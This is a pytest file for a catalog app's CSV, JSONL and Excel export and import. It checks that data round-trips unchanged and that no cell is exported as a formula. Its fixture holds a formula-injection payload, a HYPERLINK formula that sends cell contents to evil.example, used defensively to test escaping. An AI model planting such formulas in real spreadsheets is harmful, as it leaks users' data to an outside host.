"""What goes out as a file comes back unchanged; nothing in it is a formula."""

import io
import json
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from catalog import exporting
from catalog.importers.escaping import escaped, unescaped
from catalog.importers.formats import READERS
from catalog.importers.load import load
from catalog.models import Item
from tests.catalog.factories import ItemFactory, ItemTextFactory

HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"x")'


@pytest.fixture
def items(db) -> list[Item]:
    """Of everything that a file could get wrong."""
    plain = ItemFactory(external_id="plain", title="A frog")
    hostile = ItemFactory(
        external_id="hostile",
        title=HOSTILE,
        description='\'=already quoted\n"two" lines, with commas',
        tags=["-1", "a|b", "[c]", "@sum"],
        attributes={"price": 3.5, "brand": "=1+1", "n": None, "in_stock": True},
        categories=("animals/frogs", "=x"),
    )
    german = ItemFactory(external_id="german", title="Frosch", language="de", published=False)
    ItemTextFactory(item=german, language="en", title="Frog", description="+1", tags=["x"])
    ItemTextFactory(item=german, language="zh", title="青蛙")
    return [plain, hostile, german]


def exported(file_format: str, tmp_path: Path) -> bytes:
    every = Item.objects.all()
    if file_format == "xlsx":
        path = tmp_path / "out.xlsx"
        exporting.xlsx(every, path)
        return path.read_bytes()
    lines = {"csv": exporting.csv_lines, "jsonl": exporting.jsonl}[file_format](every)
    return "".join(lines).encode()


@pytest.mark.parametrize("file_format", ["csv", "jsonl", "xlsx"])
def test_what_is_exported_is_imported_unchanged(file_format, items, tmp_path):
    content = exported(file_format, tmp_path)
    reports = list(load(READERS[file_format](io.BytesIO(content)), media_root=tmp_path))
    assert [problem for report in reports for problem in report.problems] == []
    assert [(r.created, r.changed, r.unchanged) for r in reports] == [(0, 0, 3)]


@pytest.mark.parametrize("file_format", ["csv", "jsonl", "xlsx"])
def test_what_is_exported_makes_the_same_items_elsewhere(file_format, items, tmp_path):
    content = exported(file_format, tmp_path)
    before = "".join(exporting.jsonl(Item.objects.all()))
    Item.objects.all().delete()
    assert [
        r.created for r in load(READERS[file_format](io.BytesIO(content)), media_root=tmp_path)
    ] == [3]
    assert "".join(exporting.jsonl(Item.objects.all())) == before


def test_no_cell_is_a_formula(items, tmp_path):
    quoted = HOSTILE.replace('"', '""')
    assert f'"\'{quoted}"' in exported("csv", tmp_path).decode()
    sheet = openpyxl.load_workbook(io.BytesIO(exported("xlsx", tmp_path))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s", "inlineStr"}
    assert not [c.value for c in cells if str(c.value or "")[:1] in ("=", "+", "-", "@")]
    assert f"'{HOSTILE}" in [cell.value for cell in cells]


def test_json_lines_hold_everything(items):
    rows = {row["external_id"]: row for row in map(json.loads, exporting.jsonl(Item.objects.all()))}
    assert list(rows) == ["german", "hostile", "plain"]
    assert rows["german"] == {
        "external_id": "german",
        "kind": "item",
        "language": "de",
        "title": {"de": "Frosch", "en": "Frog", "zh": "青蛙"},
        "description": {"de": "", "en": "+1", "zh": ""},
        "tags": {"de": [], "en": ["x"], "zh": []},
        "categories": [],
        "attributes": {},
        "published": False,
        "published_at": items[2].published_at.isoformat(),
        "expires_at": None,
    }
    assert rows["hostile"]["categories"] == ["=x", "animals/frogs"]


def test_the_number_of_queries_does_not_grow(items, django_assert_num_queries):
    with django_assert_num_queries(4):  # languages, items, texts, categories
        list(exporting.csv_lines(Item.objects.all()))
    ItemFactory.create_batch(40)
    with django_assert_num_queries(4):
        list(exporting.csv_lines(Item.objects.all()))


def test_a_cell_that_excel_does_not_take_is_told(db, tmp_path):
    ItemFactory(external_id="large", attributes={"x": "y" * 40_000})
    with pytest.raises(exporting.ExportError, match=r"large has a cell of 40,\d{3} characters"):
        exporting.xlsx(Item.objects.all(), tmp_path / "out.xlsx")
    Item.objects.all().delete()
    ItemFactory(external_id="bell", title="a\x07b")
    with pytest.raises(exporting.ExportError, match="bell has control characters"):
        exporting.xlsx(Item.objects.all(), tmp_path / "out.xlsx")


@given(st.text(alphabet="'=+-@\t\rab ", max_size=8))
def test_escaping_is_undone(text):
    assert unescaped(escaped(text)) == text
    assert escaped(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
